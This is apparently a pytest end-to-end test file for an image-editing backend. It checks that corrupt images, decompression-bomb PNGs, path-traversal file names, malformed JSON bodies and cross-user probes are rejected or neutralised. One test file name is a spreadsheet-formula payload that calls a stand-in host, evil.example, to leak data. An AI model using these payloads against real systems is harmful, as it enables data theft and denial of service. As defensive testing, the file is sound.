"""Bad input, injected faults and hostile users, through the real path on moto.

Every case ends with the image processed or a clear per-image error; no other image is
affected and no original is modified. The counts are printed at the end of the run
(conftest.pytest_terminal_summary).
"""

from __future__ import annotations

import csv
import io
import json
import struct
import zlib
from typing import Any

import boto3
import pytest
from builders import BUCKET, TABLE
from harness import deliver_stream, upload, wait_for
from PIL import Image, ImageDraw

from chalicelib.core import contracts

pytestmark = pytest.mark.slow
COUNTS = {
    "inputs": 0,
    "faults": 0,
    "leak_checks": 0,
    "leaks": 0,
    "lost": 0,
    "hostile_requests": 0,  # request bodies and uploads built to break the API
    "server_errors": 0,  # ... of which answered 5xx (must stay 0)
    "refused": 0,
    "outages": 0,  # outages beyond every retry budget, reconciled (tests/e2e/test_reconcile.py)  # requests the local stack refused as AWS would (tests/e2e/test_local_enforcement.py)
}
NO_LABELS: dict[str, Any] = {"labels": []}  # for images label detection cannot read: nothing to keep
CSV_FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak","open me").png'
WIDE_SIZES = {
    "banner-4x1.png": (4000, 1000),
    "wide-8000x2000.jpg": (8000, 2000),
    "tall-1x4.jpg": (1000, 4000),
    "wide-5x2.jpg": (5000, 2000),
    "strip-80x1.png": (8000, 100),
}


def _save(img: Image.Image, fmt: str, **kwargs: Any) -> bytes:
    buf = io.BytesIO()
    img.save(buf, fmt, **kwargs)
    return buf.getvalue()


def _subject(
    size: tuple[int, int], mode: str = "RGB", background: Any = (235, 235, 230), fill: Any = (200, 30, 40)
) -> Image.Image:
    img = Image.new(mode, size, background)
    w, h = size
    ImageDraw.Draw(img).ellipse((w * 0.3, h * 0.25, w * 0.7, h * 0.85), fill=fill)
    return img


def _bomb(width: int, height: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\0" * 64)) + chunk(b"IEND", b"")


def _bad_inputs() -> list[tuple[str, bytes, str, str, dict[str, Any]]]:
    """(name, bytes, stored extension, expected status or error code, extra image fields)."""
    exif = Image.Exif()
    exif[0x0112] = 6
    palette = Image.new("P", (200, 150), 0)
    palette.putpalette([255, 255, 255, 30, 30, 200] + [0] * 762)
    ImageDraw.Draw(palette).ellipse((60, 40, 140, 130), fill=1)
    frames = [Image.new("P", (120, 120), i) for i in range(3)]
    sixteen = Image.new("I;16", (200, 150), 2000)
    ImageDraw.Draw(sixteen).ellipse((60, 40, 140, 130), fill=60000)
    good = _save(_subject((320, 240)), "PNG")
    return [
        ("empty.png", b"", "png", "IMAGE_INVALID", NO_LABELS),
        (
            "truncated.jpg",
            _save(Image.effect_noise((400, 300), 50).convert("RGB"), "JPEG")[:700],
            "jpg",
            "IMAGE_INVALID",
            {},
        ),
        ("page.png", b"<html><body>not a photo</body></html>", "png", "IMAGE_INVALID", NO_LABELS),
        (
            "drawing.png",
            b'<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>',
            "png",
            "IMAGE_INVALID",
            NO_LABELS,
        ),
        ("bomb.png", _bomb(100_000, 100_000), "png", "IMAGE_TOO_LARGE", NO_LABELS),
        ("over-50mp.png", _bomb(8_000, 6_400), "png", "IMAGE_TOO_LARGE", NO_LABELS),
        ("tiny.png", _save(_subject((20, 20)), "PNG"), "png", "IMAGE_TOO_SMALL", NO_LABELS),
        ("twelve-mp.jpg", _save(_subject((4000, 3000)), "JPEG", quality=85), "jpg", "SUCCEEDED", {}),
        ("tall-1x20.png", _save(_subject((100, 2000)), "PNG"), "png", "SUCCEEDED", {}),
        ("wide-20x1.png", _save(_subject((2000, 100)), "PNG"), "png", "SUCCEEDED", {}),
        (
            "cmyk.jpg",
            _save(_subject((300, 200), "CMYK", (0, 0, 0, 10), (0, 200, 200, 0)), "JPEG"),
            "jpg",
            "SUCCEEDED",
            {},
        ),
        ("sixteen-bit.png", _save(sixteen, "PNG"), "png", "SUCCEEDED", {}),
        ("grey.png", _save(_subject((300, 200), "L", 230, 40), "PNG"), "png", "SUCCEEDED", {}),
        ("palette-alpha.png", _save(palette, "PNG", transparency=0), "png", "SUCCEEDED", {}),
        (
            "rgba.png",
            _save(_subject((300, 200), "RGBA", (235, 235, 230, 255), (200, 30, 40, 255)), "PNG"),
            "png",
            "SUCCEEDED",
            {},
        ),
        ("rotated.jpg", _save(_subject((300, 200)), "JPEG", exif=exif), "jpg", "SUCCEEDED", {}),
        (
            "animated.png",
            _save(frames[0], "GIF", save_all=True, append_images=frames[1:]),
            "png",
            "IMAGE_INVALID",
            NO_LABELS,
        ),
        # Rekognition reads no WebP: it has no labels to keep (keeping one is a 400, test_api.py)
        ("photo.webp", _save(_subject((300, 200)), "WEBP"), "webp", "SUCCEEDED", NO_LABELS),
        ("plain-wall.png", _save(Image.new("RGB", (300, 200), (120, 120, 120)), "PNG"), "png", "NO_SUBJECT", {}),
        ("bus.png", good, "png", "SUCCEEDED", {}),
        ("bus.png", good, "png", "SUCCEEDED", {}),  # the same name twice in one batch
        ("bus.jpg", _save(_subject((320, 240)), "JPEG"), "jpg", "SUCCEEDED", {}),  # same base name, other extension
        ("../../etc/passwd.png", good, "png", "SUCCEEDED", {}),
        ("café ☕ 写真.png", good, "png", "SUCCEEDED", {"prompt": 'a "quoted"\nmulti-line prompt — ünïcödé 🌅'}),
        ("n" * 251 + ".png", good, "png", "SUCCEEDED", {"labels": []}),
        # any aspect ratio with the default model: letterboxed into its canvas, cropped back after
        ("banner-4x1.png", _save(_subject((4000, 1000)), "PNG"), "png", "SUCCEEDED", {}),
        ("wide-8000x2000.jpg", _save(_subject((8000, 2000)), "JPEG", quality=80), "jpg", "SUCCEEDED", {}),
        ("tall-1x4.jpg", _save(_subject((1000, 4000)), "JPEG", quality=80), "jpg", "SUCCEEDED", {}),
        ("wide-5x2.jpg", _save(_subject((5000, 2000)), "JPEG", quality=80), "jpg", "SUCCEEDED", {}),
        ("strip-80x1.png", _save(_subject((8000, 100)), "PNG"), "png", "SUCCEEDED", {}),
        # processable (>= 64 px) but too small for label detection (80 px): no labels, still processed
        ("small-70px.png", _save(_subject((70, 70)), "PNG"), "png", "SUCCEEDED", NO_LABELS),
        # names and prompts that a spreadsheet would run as formulas: neutralised in report.csv
        (CSV_FORMULA_NAME, good, "png", "SUCCEEDED", {"prompt": "@SUM(1+1) a beach"}),
    ]


def test_bad_input_matrix_through_the_workflow(stack, token_for) -> None:
    from chalice.test import Client

    import app as backdrop_app

    owner = "user-bad-inputs"
    cases = _bad_inputs()
    refs = [upload(owner, name, data, ext) for name, data, ext, _, _ in cases]
    s3 = boto3.client("s3")
    before = {ref: s3.get_object(Bucket=BUCKET, Key=contracts.upload_key(owner, ref))["Body"].read() for ref in refs}
    images = [
        {"imageRef": ref, "name": name, "labels": ["Product"], **extra}
        for ref, (name, _, _, _, extra) in zip(refs, cases, strict=True)
    ]
    headers = {"Authorization": token_for(owner), "Content-Type": "application/json"}
    with Client(backdrop_app.app, stage_name="dev") as client:
        submitted = client.http.post(
            "/jobs", headers=headers, body=json.dumps({"prompt": "a quiet beach", "images": images})
        )
        assert submitted.status_code == 202, submitted.body
        job_id = submitted.json_body["jobId"]
        deliver_stream(stack, client)
        execution = boto3.client("stepfunctions").list_executions(stateMachineArn=stack["state_machine_arn"])[
            "executions"
        ][0]
        assert (
            wait_for(boto3.client("stepfunctions"), execution["executionArn"], timeout_s=180)["status"] == "SUCCEEDED"
        )
        view = client.http.get(f"/jobs/{job_id}", headers=headers).json_body

    by_ref = {image["imageRef"]: image for image in view["images"]}
    got = {}
    for ref, (name, _, _, expected, _) in zip(refs, cases, strict=True):
        image = by_ref[ref]
        outcome = image["status"] if image["status"] == "SUCCEEDED" else image["errorCode"]
        got[name if name not in got else name + " (2)"] = outcome
        assert outcome == expected, (name, image.get("cause"), image)
        assert image["name"] == name  # names are kept as given, never used as keys
        if expected != "SUCCEEDED":
            assert image["cause"] and len(image["cause"]) > 10, (name, image)
    result_keys = [o["key"] for image in view["images"] for o in image["outputs"]]
    assert len(result_keys) == len(set(result_keys)) == sum(1 for c in cases if c[3] == "SUCCEEDED")
    assert all(key.startswith(f"results/{owner}/{job_id}/") for key in result_keys)
    rotated = next(i for i in view["images"] if i["name"] == "rotated.jpg")
    assert Image.open(
        io.BytesIO(s3.get_object(Bucket=BUCKET, Key=rotated["outputs"][0]["key"])["Body"].read())
    ).size == (200, 300)
    for image in view["images"]:  # panoramas and strips come back at their own size
        if image["name"] in WIDE_SIZES:
            result = s3.get_object(Bucket=BUCKET, Key=image["outputs"][0]["key"])["Body"].read()
            assert Image.open(io.BytesIO(result)).size == WIDE_SIZES[image["name"]], image["name"]
    report_csv = s3.get_object(Bucket=BUCKET, Key=contracts.report_key(owner, job_id, "csv"))["Body"].read().decode()
    rows = list(csv.DictReader(io.StringIO(report_csv)))
    formula_row = next(r for r in rows if r["name"].endswith('open me").png'))
    assert formula_row["name"] == "'" + CSV_FORMULA_NAME and formula_row["prompt"] == "'@SUM(1+1) a beach"
    assert not [cell for row in rows for cell in row.values() if cell and cell[0] in "=+-@\t\r"]
    for ref, data in before.items():  # no original modified
        assert s3.get_object(Bucket=BUCKET, Key=contracts.upload_key(owner, ref))["Body"].read() == data
    assert view["status"] == "PARTIAL" and view["counts"]["PENDING"] == view["counts"]["RUNNING"] == 0
    COUNTS["inputs"] += len(cases)
    COUNTS["lost"] += sum(1 for image in view["images"] if image["status"] not in ("SUCCEEDED", "FAILED"))


def _run_batch(stack, token_for, owner: str, prompts: dict[str, str], before_start: Any = None) -> dict[str, Any]:
    from chalice.test import Client

    import app as backdrop_app

    data = _save(_subject((320, 240)), "PNG")
    refs = {name: upload(owner, name, data, "png") for name in prompts}
    images = [
        {"imageRef": ref, "name": name, "labels": ["Product"], "prompt": prompts[name]} for name, ref in refs.items()
    ]
    headers = {"Authorization": token_for(owner), "Content-Type": "application/json"}
    with Client(backdrop_app.app, stage_name="dev") as client:
        submitted = client.http.post("/jobs", headers=headers, body=json.dumps({"prompt": "a beach", "images": images}))
        assert submitted.status_code == 202, submitted.body
        if before_start:
            before_start(owner, refs)
        deliver_stream(stack, client)
        sfn = boto3.client("stepfunctions")
        execution = sfn.list_executions(stateMachineArn=stack["state_machine_arn"])["executions"][0]
        assert wait_for(sfn, execution["executionArn"], timeout_s=180)["status"] == "SUCCEEDED"
        view = client.http.get(f"/jobs/{submitted.json_body['jobId']}", headers=headers).json_body
    COUNTS["lost"] += sum(1 for image in view["images"] if image["status"] not in ("SUCCEEDED", "FAILED"))
    return view


def test_fault_matrix_on_the_executed_state_machine(stack, token_for) -> None:
    prompts = {
        "throttled-storm.png": "beach [throttle:3]",
        "timeout-once.png": "beach [timeout:1]",
        "unavailable-twice.png": "beach [unavailable:2]",
        "timeout-always.png": "beach [timeout:9]",
        "filtered-input.png": "beach [filter:prompt]",
        "filtered-output.png": "beach [filter:output]",
        "deleted-before-start.png": "beach",
        "healthy.png": "beach",
    }

    def delete_one_original(owner: str, refs: dict[str, str]) -> None:  # an S3 read error in prepare
        boto3.client("s3").delete_object(
            Bucket=BUCKET, Key=contracts.upload_key(owner, refs["deleted-before-start.png"])
        )

    view = _run_batch(stack, token_for, "user-faults", prompts, delete_one_original)
    outcome = {i["name"]: (i["status"] if i["status"] == "SUCCEEDED" else i["errorCode"]) for i in view["images"]}
    assert outcome == {
        "throttled-storm.png": "SUCCEEDED",
        "timeout-once.png": "SUCCEEDED",
        "unavailable-twice.png": "SUCCEEDED",
        "timeout-always.png": "MODEL_TIMEOUT",
        "filtered-input.png": "CONTENT_FILTERED",
        "filtered-output.png": "CONTENT_FILTERED",
        "deleted-before-start.png": "STORAGE_ERROR",
        "healthy.png": "SUCCEEDED",
    }
    causes = {i["name"]: i["cause"] for i in view["images"]}
    assert "Bedrock.ModelTimeoutException" in causes["timeout-always.png"]
    assert "generated image" in causes["filtered-output.png"]
    assert "NoSuchKey" in causes["deleted-before-start.png"]
    report = json.loads(
        boto3.client("s3")
        .get_object(Bucket=BUCKET, Key=contracts.report_key("user-faults", view["jobId"], "json"))["Body"]
        .read()
    )
    assert report["counts"]["SUCCEEDED"] == 4 and report["counts"]["FAILED"] == 4
    COUNTS["faults"] += 7


def test_finalize_crash_then_retry_is_idempotent(stack, token_for, monkeypatch) -> None:
    token_for_owner = "user-crash"
    from chalicelib.workflow.steps import Steps

    real_finalize = Steps.finalize
    crashed: list[str] = []

    def crash_once(self: Steps, event: dict[str, Any]) -> dict[str, Any]:
        if not crashed:
            crashed.append(event["image"]["imageId"])
            raise RuntimeError("simulated crash after the model answered")
        return real_finalize(self, event)

    monkeypatch.setattr(Steps, "finalize", crash_once)
    view = _run_batch(stack, token_for, token_for_owner, {"crashy.png": "beach"})
    assert view["images"][0]["errorCode"] == "INTERNAL_ERROR" and "simulated crash" in view["images"][0]["cause"]
    from chalice.test import Client

    import app as backdrop_app

    headers = {"Authorization": token_for(token_for_owner), "Content-Type": "application/json"}
    with Client(backdrop_app.app, stage_name="dev") as client:
        retried = client.http.post(f"/jobs/{view['jobId']}/retry", headers=headers, body=b"{}").json_body
        deliver_stream(stack, client)
        sfn = boto3.client("stepfunctions")
        runs = {e["name"]: e for e in sfn.list_executions(stateMachineArn=stack["state_machine_arn"])["executions"]}
        assert wait_for(sfn, runs[retried["jobId"]]["executionArn"])["status"] == "SUCCEEDED"
        again = client.http.get(f"/jobs/{retried['jobId']}", headers=headers).json_body
    assert again["images"][0]["status"] == "SUCCEEDED"
    assert again["images"][0]["outputs"][0]["key"] == contracts.result_key(
        token_for_owner, retried["jobId"], crashed[0], 1, "png"
    )
    COUNTS["faults"] += 1


def test_sns_failure_is_recorded_and_the_job_still_completes(stack, token_for, monkeypatch) -> None:
    from harness import SnsOutage

    SnsOutage(monkeypatch)  # Notify now fails after its retries
    view = _run_batch(stack, token_for, "user-sns", {"fine.png": "beach"})
    assert view["status"] == "COMPLETED"
    assert view["notification"]["status"] == "FAILED" and view["notification"]["error"].startswith("SNS.")
    COUNTS["faults"] += 1


def test_an_owner_without_a_topic_gets_no_email_and_the_job_still_completes(stack, token_for) -> None:
    """The workflow's Notify step publishes to the owner's own topic: none (a user made without
    create-user) is recorded as NO_SUBSCRIPTION, which the reconciler leaves alone."""
    from chalicelib.core import contracts

    def delete_topic(owner: str, refs: Any) -> None:  # the user was made with their topic: it goes
        boto3.client("sns").delete_topic(TopicArn=contracts.user_topic_arn(stack["user_topic_arn_prefix"], owner))

    view = _run_batch(stack, token_for, "user-no-topic", {"fine.png": "beach"}, before_start=delete_topic)
    assert view["status"] == "COMPLETED"
    assert view["notification"]["status"] == "NO_SUBSCRIPTION", view["notification"]
    assert "Error Code: NotFound" in view["notification"]["cause"] or "does not exist" in view["notification"]["cause"]
    COUNTS["faults"] += 1


def test_transient_report_failure_is_retried(stack, token_for, monkeypatch) -> None:
    from chalicelib.core.errors import StorageError
    from chalicelib.delivery.report import Reporter

    real_build = Reporter.build
    calls: list[int] = []

    def flaky(self: Reporter, event: dict[str, Any]) -> dict[str, Any]:
        calls.append(1)
        if len(calls) == 1:
            raise StorageError("simulated S3 outage while writing the report")
        return real_build(self, event)

    monkeypatch.setattr(Reporter, "build", flaky)
    view = _run_batch(stack, token_for, "user-report", {"fine.png": "beach"})
    assert len(calls) == 2 and view["status"] == "COMPLETED" and view["reports"]["json"]
    COUNTS["faults"] += 1


def test_hostile_users_see_nothing_of_others(stack, token_for) -> None:
    from chalice.test import Client

    import app as backdrop_app

    view = _run_batch(stack, token_for, "victim", {"secret.png": "beach"})
    job_id = view["jobId"]
    result_key = view["images"][0]["outputs"][0]["key"]
    victim_ref = view["images"][0]["imageRef"]
    attacker = {"Authorization": token_for("attacker"), "Content-Type": "application/json"}
    probes = [
        ("GET", f"/jobs/{job_id}", None),
        ("GET", f"/jobs/{job_id}/report?format=json", None),
        ("GET", f"/jobs/{job_id}/report?format=csv", None),
        ("POST", f"/jobs/{job_id}/retry", {}),
        ("POST", "/labels", {"imageRefs": [victim_ref]}),
        ("POST", "/jobs", {"prompt": "x", "images": [{"imageRef": victim_ref, "labels": []}]}),
        ("POST", "/labels", {"imageRefs": [f"../victim/{victim_ref}"]}),
        ("GET", f"/jobs/{result_key}", None),
    ]
    with Client(backdrop_app.app, stage_name="dev") as client:
        for method, path, body in probes:
            response = client.http.request(
                method, path, headers=attacker, body=json.dumps(body).encode() if body is not None else b""
            )
            COUNTS["leak_checks"] += 1
            leaked = response.status_code < 400 or "secret.png" in response.body.decode(errors="ignore")
            COUNTS["leaks"] += int(leaked)
            # 403 is API Gateway's answer to a path no route matches ("Missing Authentication Token")
            assert response.status_code in (400, 403, 404), (method, path, response.status_code, response.body)
        listing = client.http.get("/jobs", headers=attacker).json_body
        assert listing["jobs"] == []
    url = view["images"][0]["outputs"][0]["url"]
    assert f"/results/victim/{job_id}/" in url  # scoped to the owner's key
    assert "X-Amz-Expires=3600" in url or "Expires=" in url  # short-lived
    assert COUNTS["leaks"] == 0


def test_limits_ten_thousand_images_go_through_the_manifest_path(store) -> None:
    from chalicelib.core.errors import ValidationError
    from chalicelib.jobs.service import parse_job_request
    from chalicelib.store.jobs import NewImage
    from chalicelib.workflow.starter import WorkflowStarter

    def body(count: int) -> dict[str, Any]:
        return {"prompt": "x", "images": [{"imageRef": f"{'a' * 32}/{i:032x}.png", "labels": []} for i in range(count)]}

    _, _, images = parse_job_request(body(contracts.MAX_IMAGES_PER_JOB))
    assert len(images) == 10_000
    with pytest.raises(ValidationError, match="10,000"):
        parse_job_request(body(contracts.MAX_IMAGES_PER_JOB + 1))
    job_id = "20261124T120000Z-00000000000a"
    store.put_job(
        job_id=job_id,
        owner="u",
        model="stability-inpaint",
        settings={"prompt": "x"},
        images=[
            NewImage(image_id=i.image_id, image_ref=i.image_ref, key=f"uploads/u/{i.image_ref}", name=i.name)
            for i in images
        ],
    )
    manifest = WorkflowStarter(boto3.client("s3"), store, None, BUCKET, "unused").manifest(job_id)
    assert len(manifest) == 10_000  # read across many DynamoDB pages, into S3 for the ItemReader
    assert len(json.dumps(manifest)) > 256 * 1024  # far beyond what a state payload could carry
    COUNTS["inputs"] += 2


@pytest.mark.parametrize(
    ("change", "field"),
    [
        (lambda b: b.update(prompt="p" * 10_001), "prompt"),
        (
            lambda b: b["images"][0].update(labels=[f"l{i}" for i in range(contracts.MAX_LABELS_PER_IMAGE + 1)]),
            "images[0].labels",
        ),
        (lambda b: b["images"][0].update(labels=["x" * (contracts.MAX_LABEL_LENGTH + 1)]), "images[0].labels"),
        (lambda b: b.update(variants=9), "variants"),
        (lambda b: b.update(prompt=""), "prompt"),
        (lambda b: b["images"][0].update(name="n" * 300), "images[0].name"),
        (lambda b: b.update(model={"key": "stability-inpaint"}), "model"),
        (lambda b: b.update(model=["stability-inpaint"]), "model"),
    ],
)
def test_limits_are_refused_with_the_field_named(change, field) -> None:
    from chalicelib.core.errors import ValidationError
    from chalicelib.jobs.service import parse_job_request

    body: dict[str, Any] = {
        "prompt": "a beach",
        "images": [{"imageRef": f"{'a' * 32}/{'b' * 32}.png", "labels": ["Person"]}],
    }
    change(body)
    with pytest.raises(ValidationError) as caught:
        parse_job_request(body)
    assert field in [d["field"] for d in caught.value.details]
    COUNTS["inputs"] += 1


def _hostile_bodies(ref: str) -> list[tuple[str, bytes]]:
    """(route, raw body): each must be a 400 that names the problem, with nothing written."""
    job = '{"prompt": "PROMPT", "images": [{"imageRef": "' + ref + '", "name": "a.png", "labels": []}]}'
    return [
        ("/jobs", job.replace("PROMPT", "sunset \\ud800 beach").encode()),  # lone surrogate: once a 500 + orphans
        ("/jobs", job.replace("PROMPT", "caf\xe9").encode("latin-1")),  # not UTF-8
        ("/jobs", b"[" * 100_000 + b"]" * 100_000),  # once a RecursionError
        ("/jobs", b'{"images": ' + b"[" * 30 + b"]" * 30 + b"}"),
        ("/jobs", job.replace("PROMPT", "x" * (contracts.MAX_REQUEST_BODY_BYTES + 1)).encode()),
        ("/jobs", job.replace('"prompt"', '"seed": NaN, "prompt"').encode()),
        ("/jobs", job.replace('"prompt"', '"seed": 1' + "0" * 5000 + ', "prompt"').encode()),
        ("/jobs", job.replace('"prompt"', '"prompt": "first", "prompt"').encode()),
        ("/uploads", b'{"files": [{"name": "\\udc00.png", "contentType": "image/png", "size": 10}]}'),
        ("/labels", b'{"imageRefs": ["\\udfff"]}'),
        ("/labels", b"\xef\xbb\xbf" + json.dumps({"imageRefs": [ref]}).encode()),
    ]


def test_hostile_request_bodies_are_all_400s_and_write_nothing(resources, rekognition, token_for) -> None:
    from chalice.test import Client

    import app as backdrop_app

    owner = "user-hostile-bodies"
    ref = upload(owner, "a.png", _save(_subject((320, 240)), "PNG"), "png")
    table = boto3.resource("dynamodb").Table(TABLE)
    headers = {"Authorization": token_for(owner), "Content-Type": "application/json"}
    with Client(backdrop_app.app, stage_name="dev") as client:
        for path, body in _hostile_bodies(ref):
            response = client.http.post(path, headers=headers, body=body)
            COUNTS["hostile_requests"] += 1
            COUNTS["server_errors"] += int(response.status_code >= 500)
            assert response.status_code == 400, (path, body[:80], response.status_code, response.body[:200])
            assert response.json_body["details"][0]["field"], response.json_body
    assert table.scan()["Items"] == []  # no job, no image items, no label cache: nothing before validation
    assert COUNTS["server_errors"] == 0


def test_one_bad_file_never_costs_the_good_ones(resources, rekognition, token_for) -> None:
    from chalice.test import Client

    import app as backdrop_app

    owner = "user-mixed-upload"
    files = [
        {"name": "ok.png", "contentType": "image/png", "size": 1000},
        {"name": "page.html", "contentType": "text/html", "size": 1000},
        {"name": "huge.png", "contentType": "image/png", "size": contracts.MAX_UPLOAD_BYTES + 1},
        {"name": "empty.png", "contentType": "image/png", "size": 0},
        {"name": "ok.jpg", "contentType": "image/jpeg", "size": 1000},
        {"name": "x" * 300 + ".png", "contentType": "image/png", "size": 1000},
    ]
    headers = {"Authorization": token_for(owner), "Content-Type": "application/json"}
    tiny = upload(owner, "tiny.png", _save(_subject((72, 64)), "PNG"), "png")
    with Client(backdrop_app.app, stage_name="dev") as client:
        granted = client.http.post("/uploads", headers=headers, body=json.dumps({"files": files}))
        labels = client.http.post("/labels", headers=headers, body=json.dumps({"imageRefs": [tiny]}))
    COUNTS["hostile_requests"] += 2
    COUNTS["server_errors"] += int(granted.status_code >= 500) + int(labels.status_code >= 500)
    assert granted.status_code == 201, granted.body
    assert [u["name"] for u in granted.json_body["uploads"]] == ["ok.png", "ok.jpg"]
    assert [r["index"] for r in granted.json_body["rejected"]] == [1, 2, 3, 5]  # every problem in one answer
    assert labels.status_code == 200  # 64-79 px: once a 500 from Rekognition
    assert "at least 80 px" in labels.json_body["unavailable"][tiny]["message"]
